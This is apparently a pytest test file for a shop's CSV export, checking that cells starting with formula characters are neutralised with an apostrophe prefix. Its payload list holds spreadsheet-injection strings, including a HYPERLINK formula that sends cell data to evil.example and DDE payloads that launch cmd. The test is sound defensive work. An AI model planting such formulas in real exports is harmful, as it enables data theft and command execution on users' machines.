"""Every CSV the shop produces is safe to open in a spreadsheet (issue 13, item 5)."""
import csv
import io

import pytest

from storefront.csv_safe import safe_cell

from .factories import make_certified_village, make_product, make_sellable_food

PAYLOADS = ['=HYPERLINK("https://evil.example?x="&A1,"Klik")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def rows(response):
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_partner_csv_never_starts_a_cell_with_a_formula(client, payload):
    village = make_certified_village(name=payload, group_name=payload)
    make_product(village, "tenun", name=payload, sku="TENUN-1", slug="tenun-1")
    (row,) = rows(client.get("/api/v1/products.csv"))
    assert row["name"] == "'" + payload
    assert row["village_name"] == "'" + payload
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_ordinary_cells_are_left_as_they_are(client):
    make_sellable_food(name="Kopi Arabika Bajawa", sku="KOPI-1", price_idr=85000)
    (row,) = rows(client.get("/api/v1/products.csv"))
    assert row["name"] == "Kopi Arabika Bajawa" and row["price_idr"] == "85000"
    assert safe_cell(-5) == -5 and safe_cell(None) == "" and safe_cell("Rp 5.000") == "Rp 5.000"
